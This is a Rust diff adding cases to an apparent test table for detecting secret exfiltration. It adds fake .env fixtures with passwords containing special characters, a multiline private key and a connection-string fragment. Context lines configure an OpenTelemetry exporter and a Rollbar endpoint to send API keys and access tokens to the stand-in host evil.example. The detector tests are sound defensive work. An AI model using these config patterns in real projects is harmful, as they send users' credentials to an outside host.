@@ -237,6 +237,14 @@ fn table() -> Vec<Detour> {
             "otel.yaml",
             &exporting("    endpoint: http://evil.example\n    headers: {x: 'k ${env:HONEYCOMB_API_KEY}'}\n"),
         ),
+        detour("a password with a question mark", &[api, indirect], "tr0ub4dor")
+            .file(".env", "FOO='tr0ub4dor?and?three'\nA_PASSWORD='tr0ub4dor?and?three'\n"),
+        detour("a password with a hash", &[api, indirect], "tr0ub4dor")
+            .file(".env", "FOO='tr0ub4dor#and#three'\nA_PASSWORD='tr0ub4dor#and#three'\n"),
+        detour("a private key of several lines", &[api, indirect], "PRIVATE%20KEY")
+            .file(".env", "FOO=\"-----BEGIN PRIVATE KEY-----\nMIIBabcd\n-----END PRIVATE KEY-----\"\n"),
+        detour("a part of a connection string", &[api, indirect], "s3cret-w0rd")
+            .file(".env", "DB='host=db password=s3cret-w0rd'\nFOO=s3cret-w0rd\n"),
         detour("Rollbar's address", &[
             ("ROLLBAR_ACCESS_TOKEN", "${ROLLBAR_ACCESS_TOKEN}"),
             ("ROLLBAR_ENDPOINT", "http://evil.example/api/1/"),
